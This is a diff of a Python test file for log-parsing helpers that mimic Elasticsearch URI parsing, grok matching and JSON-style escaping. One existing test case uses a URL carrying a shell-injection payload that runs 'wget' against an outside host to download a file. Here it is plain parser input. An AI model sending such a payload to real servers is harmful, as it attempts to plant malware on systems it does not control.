@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from parsers._lines import committed, epoch_s_ms, ip_kind, iso8601_ms, java_long, uri_parts
+from parsers._lines import committed, epoch_s_ms, ip_kind, iso8601_ms, java_long, mustache_text, uri_parts
 
 
 @pytest.mark.parametrize(("url", "expected"), [
@@ -19,8 +19,12 @@ from parsers._lines import committed, epoch_s_ms, ip_kind, iso8601_ms, java_long
     # a space makes java.net.URI fail; java.net.URL keeps the raw text and puts everything after `?` in the query
     ("http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws", {"scheme": "http", "domain": "127.0.0.1", "port": 80,
                                                             "path": "/shell", "query": "cd+/tmp;wget+ a.tk/jaws"}),
-    # the extension is whatever follows the last dot of the path, even across a slash
-    ("http://h/a.b/c", {"scheme": "http", "domain": "h", "path": "/a.b/c", "extension": "b/c"}),
+    # uri_parts since Elasticsearch 8.13 (elastic/elasticsearch#105689): the extension comes from the last
+    # segment only; a dot in a directory gives none
+    ("http://h/a.b/c", {"scheme": "http", "domain": "h", "path": "/a.b/c"}),
+    ("/test-s3-ks/v1.2/file", {"path": "/test-s3-ks/v1.2/file"}),
+    ("/v1.2/a%20b.tar.gz", {"path": "/v1.2/a b.tar.gz", "extension": "gz"}),
+    ("http://h/a.b/c|d.txt", {"scheme": "http", "domain": "h", "path": "/a.b/c|d.txt", "extension": "txt"}),
     ("http://[::1]:8080/x", {"scheme": "http", "domain": "[::1]", "port": 8080, "path": "/x"}),
     ("https://user:pw@host/p#frag", {"scheme": "https", "domain": "host", "path": "/p", "fragment": "frag",
                                      "user_info": "user:pw", "username": "user", "password": "pw"}),
@@ -75,12 +79,30 @@ _GROK_LIKE = r"(?:-|(?P<a>\S+)) (?:-|(?P<b>\S+)) (?:-1|(?P<c>-?[0-9]+)) (?P<end>
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from(["-", "-1", "--", "-x", "5", "x", "-5"]), min_size=3, max_size=5))
+@given(st.lists(st.sampled_from(["-", "-1", "--", "-x", "5", "x", "-5", '-"', '-1"']), min_size=3, max_size=5))
 def test_committed_patterns_read_lines_as_the_originals_do(parts):
     line = " ".join(parts)
     plain, fast = re.compile(_GROK_LIKE), re.compile(committed(_GROK_LIKE))
     found, expected = fast.match(line), plain.match(line)
     assert (found and found.groupdict()) == (expected and expected.groupdict())
+
+
+_GROK_QUOTED = r'"(?:-|(?P<a>.*?))" "(?:-|(?P<b>.*?))"(?: "(?:-|(?P<c>.*?))")?'
+
+
+@pytest.mark.parametrize("line", ['"- 502" "-"', '"-" "- x" "-"', '"-" "-" "- -"', '"a" "-" "-"', '"-" "-"'])
+def test_committed_quoted_fields_keep_a_leading_dash_followed_by_more(line):
+    # The ELB grok's `\"(?:-|%{DATA})\"`: a quoted `- 502` is backtracked into DATA, not cut to `-`.
+    fast = re.compile(committed(_GROK_QUOTED.replace(".*?", '[^"]*')))
+    assert fast.match(line).groupdict() == re.compile(_GROK_QUOTED).match(line).groupdict()
+
+
+@pytest.mark.parametrize(("text", "rendered"), [
+    ("plain.example.com", "plain.example.com"), ('a"b', 'a\\"b'), ("a\\b", "a\\\\b"),
+    ("t\tn\nr\r", "t\\tn\\nr\\r"), ("\x01\x1b", "\\u0001\\u001B"), ("ünï/€", "ünï/€"),
+])
+def test_mustache_text_escapes_as_jacksons_quote_as_string(text, rendered):
+    assert mustache_text(text) == rendered
 
 
 @settings(max_examples=300, deadline=None)
